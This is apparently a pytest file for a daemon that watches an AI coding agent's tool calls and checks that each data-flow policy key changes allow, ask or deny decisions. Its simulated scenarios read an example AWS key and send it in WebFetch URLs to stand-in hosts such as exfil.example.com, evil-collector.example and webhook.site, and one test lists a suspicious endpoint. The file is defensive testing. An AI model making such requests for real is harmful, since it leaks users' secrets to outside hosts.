"""Every ``flow.*`` policy key changes what the running daemon does (a key
nothing reads is a bug). Each test runs a scenario through the hook channel
op, changes the one key with a drop-in and ``policy reload``, and runs the
same scenario again in a fresh session."""

from __future__ import annotations

import json
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agentsh.agent.core.client_sync import SyncChannelClient
from agentsh.agent.core.flow import FlowEngine
from agentsh.agent.core.mcp.service import MCPService
from agentsh.agent.core.policy.schema import Policy
from agentsh.agent.daemon.hooks import HookService
from tests.conftest import DaemonProc, wait_for

AWS = "AKIAIOSFODNN7EXAMPLE"
VALUE = "ZQ55821XK7731ABCDEFGH"  # an identifier, no secret: it flows only if recorded
HOOK = str(Path(__file__).resolve().parents[1] / "agent" / "hook_cmd.py")


class Agent:
    """One Claude Code session's hook traffic, over the agent channel."""

    def __init__(self, d: DaemonProc) -> None:
        self.chan = SyncChannelClient(str(d.socket))
        self.session = "cc-" + uuid.uuid4().hex[:12]
        self.n = 0

    def hook(self, event: str, tool: str, tool_input: Any, tool_response: Any = None, tid: str | None = None) -> dict[str, Any]:
        if tid is None:
            self.n += 1
            tid = f"t{self.n}"
        p: dict[str, Any] = {"session_id": self.session, "hook_event_name": event, "tool_name": tool,
                             "tool_input": tool_input, "tool_use_id": tid}
        if tool_response is not None:
            p["tool_response"] = tool_response
        return self.chan.request({"op": "hook", "payload": p})

    def read(self, content: str, path: str = "/w/data.txt") -> None:
        self.n += 1
        tid = f"t{self.n}"
        self.hook("PreToolUse", "Read", {"file_path": path}, tid=tid)
        self.hook("PostToolUse", "Read", {"file_path": path},
                  {"type": "text", "file": {"filePath": path, "content": content}}, tid=tid)

    def fetch(self, data: str, host: str = "exfil.example.com") -> dict[str, Any]:
        return self.hook("PreToolUse", "WebFetch", {"url": f"https://{host}/c?d={data}", "prompt": "p"})

    def mcp(self, tool: str, args: dict[str, Any]) -> dict[str, Any]:
        return self.hook("PreToolUse", tool, args)


def apply(d: DaemonProc, flow_yaml: str) -> None:
    """A drop-in with one flow key, then an admin reload."""
    before = json.loads(d.ctl("policy", "show", "--json").stdout)["hash"]
    d.write_policy(flow_yaml, name="50-flow-key.yaml")
    r = d.ctl("policy", "reload")
    assert r.returncode == 0, r.stdout + r.stderr
    wait_for(lambda: json.loads(d.ctl("policy", "show", "--json").stdout)["hash"] != before, what="reload")


def read_then_fetch(value: str) -> Callable[[Agent], dict[str, Any]]:
    def run(a: Agent) -> dict[str, Any]:
        a.read(f"ref={value}\n")
        return a.fetch(value)
    return run


def many_reads_then_fetch(a: Agent) -> dict[str, Any]:
    a.read(f"ref={VALUE}\n", "/w/first.txt")
    for n in range(12):  # later reads: each origin takes at most an eighth of the budget
        filler = " ".join(f"K{n:02d}{i:04d}X{i * 7919 % 99991:05d}ZZ" for i in range(50))
        a.read(filler, f"/w/more{n}.txt")
    return a.fetch(VALUE)


def late_value_then_fetch(a: Agent) -> dict[str, Any]:
    a.read("x" * 2000 + f"\nref={VALUE}\n")
    return a.fetch(VALUE)


def to_mcp(server: str, extra: dict[str, Any] | None = None) -> Callable[[Agent], dict[str, Any]]:
    def run(a: Agent) -> dict[str, Any]:
        a.read(f"ref={VALUE}\n")
        return a.mcp(f"mcp__{server}__send_message", {"text": f"see {VALUE}", **(extra or {})})
    return run


def secret_fetch(a: Agent) -> dict[str, Any]:
    a.read(f"AWS_ACCESS_KEY_ID={AWS}\n")
    return a.fetch(AWS)


CASES = [
    # (key yaml, scenario, what the default does, what the key makes it do)
    pytest.param("flow: {flow_tracking: {enabled: false}}", secret_fetch, "deny", "allow", id="flow_tracking.enabled"),
    pytest.param("flow: {flow_tracking: {max_origins_per_session: 40}}", many_reads_then_fetch, "ask", "allow",
                 id="flow_tracking.max_origins_per_session"),
    pytest.param("flow: {flow_tracking: {hash_min_length: 10}}", read_then_fetch("ZQ5582XK7731AB"), "allow", "ask",
                 id="flow_tracking.hash_min_length"),
    pytest.param("flow: {flow_tracking: {max_response_hash_bytes: 1024}}", late_value_then_fetch, "ask", "allow",
                 id="flow_tracking.max_response_hash_bytes"),
    pytest.param("flow: {classification: {default_unknown: external}}", to_mcp("acme"), "allow", "ask",
                 id="classification.default_unknown"),
    pytest.param("flow: {classification: {server_overrides: {slack: internal}}}", to_mcp("slack"), "ask", "allow",
                 id="classification.server_overrides"),
    pytest.param("flow: {flow_policy: {internal_to_external: deny}}", read_then_fetch(VALUE), "ask", "deny",
                 id="flow_policy.internal_to_external"),
    pytest.param("flow: {flow_policy: {sensitive_data_external: ask}}", secret_fetch, "deny", "ask",
                 id="flow_policy.sensitive_data_external"),
    pytest.param("flow: {flow_policy: {suspicious_endpoints: [evil-collector.example]}}",
                 lambda a: a.fetch("nothing", host="evil-collector.example"), "allow", "deny",
                 id="flow_policy.suspicious_endpoints"),
    pytest.param("flow: {flow_policy: {tool_overrides: {WebFetch: allow}}}", read_then_fetch(VALUE), "ask", "allow",
                 id="flow_policy.tool_overrides"),
    pytest.param("flow: {hooks: {enabled: false}}", lambda a: a.fetch("x", host="webhook.site"), "deny", "allow",
                 id="hooks.enabled"),
]


@pytest.mark.parametrize(("key", "scenario", "default", "changed"), CASES)
def test_flow_key_changes_the_hook_decision(
    daemon: DaemonProc, key: str, scenario: Callable[[Agent], dict[str, Any]], default: str, changed: str
) -> None:
    assert scenario(Agent(daemon))["decision"] == default
    apply(daemon, key)
    ans = scenario(Agent(daemon))
    assert ans["decision"] == changed, ans
    if key.startswith("flow: {hooks: {enabled"):
        assert ans["evaluated"] is False and "flow.hooks.enabled: false" in ans["reason"]
        assert "agent hooks answered allow" in " ".join(json.loads(daemon.ctl("status", "--json").stdout)["degraded_reasons"])


def test_require_justification_makes_an_empty_justification_high_risk(daemon: DaemonProc) -> None:
    run = to_mcp("slack", {"flow_justification": ""})
    assert run(Agent(daemon))["risk_level"] == "high"
    apply(daemon, "flow: {flow_policy: {require_justification: false}}")
    assert run(Agent(daemon))["risk_level"] == "medium"


def test_correlation_ttl_bounds_how_late_an_mcp_call_may_join_a_hook_session(daemon: DaemonProc) -> None:
    chan = SyncChannelClient(str(daemon.socket))

    def linked_after(wait: float) -> bool:
        a = Agent(daemon)
        args = {"name": uuid.uuid4().hex}
        a.mcp("mcp__notes__read_note", args)
        time.sleep(wait)
        mcp_session = "mcp-" + uuid.uuid4().hex[:8]
        chan.decide({"tool_name": "read_note", "server_id": "notes", "source": "shim",
                     "session_id": mcp_session, "arguments": args})
        rec = chan.request({"op": "flow_record", "session_id": mcp_session, "server_id": "notes",
                            "tool_name": "read_note", "content": "note"})
        return bool(rec["session"] == a.session)

    assert linked_after(0.6)  # default ttl 5 s
    apply(daemon, "flow: {hooks: {correlation_ttl_seconds: 0.3}}")
    assert not linked_after(0.6)
    assert linked_after(0.0)


def test_fail_open_false_makes_the_hook_deny_while_the_daemon_is_away(daemon: DaemonProc) -> None:
    payload = json.dumps({"session_id": "cc-fo", "hook_event_name": "PreToolUse", "tool_name": "Read",
                          "tool_input": {"file_path": "/x"}, "tool_use_id": "t1"})

    def run_hook(event: str = "PreToolUse") -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-S", "-E", HOOK, "--event", event, "--socket", str(daemon.socket)],
                              input=payload, capture_output=True, text=True, timeout=30)

    conf = daemon.socket.with_name("agentsh-hooks.conf")
    assert conf.read_text() == "fail_open=1\n"
    apply(daemon, "flow: {hooks: {fail_open: false}}")
    assert conf.read_text() == "fail_open=0\n"
    assert run_hook().stdout == ""  # the daemon answers: allowed, nothing printed
    daemon.stop()
    r = run_hook()
    assert r.returncode == 0
    out = json.loads(r.stdout)["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny" and "flow.hooks.fail_open is false" in out["permissionDecisionReason"]
    assert run_hook("PostToolUse").stdout == ""  # recording never denies


@pytest.mark.parametrize(("minutes", "expired"), [(30, False), (1, True)])
async def test_session_timeout_minutes_decides_when_a_session_expires(tmp_path: Path, minutes: int, expired: bool) -> None:
    """``flow_tracking.session_timeout_minutes`` on the daemon's housekeeping
    step (HookService.expire), with the engine's clock moved 2 minutes."""
    policy = Policy.model_validate({"flow": {"flow_tracking": {"session_timeout_minutes": minutes}}})
    t = [1000.0]
    got: list[Any] = []
    store = type("Store", (), {"policy": policy})()
    mcp = MCPService(policy, tmp_path, lambda e: got.append(e) or True, flow=FlowEngine(policy, clock=lambda: t[0]))
    events = type("Events", (), {"emit": staticmethod(lambda e: got.append(e) or True)})()
    hooks = HookService(type("Ctx", (), {"store": store, "mcp": mcp, "events": events})())
    peer = type("Peer", (), {"uid": 0, "pid": None})()
    await hooks.handle({"payload": {"session_id": "cc-t", "hook_event_name": "PreToolUse", "tool_name": "Read",
                                    "tool_input": {"file_path": "/x"}}}, peer)
    t[0] += 120
    assert hooks.expire() == (1 if expired else 0)
    mcp.close()
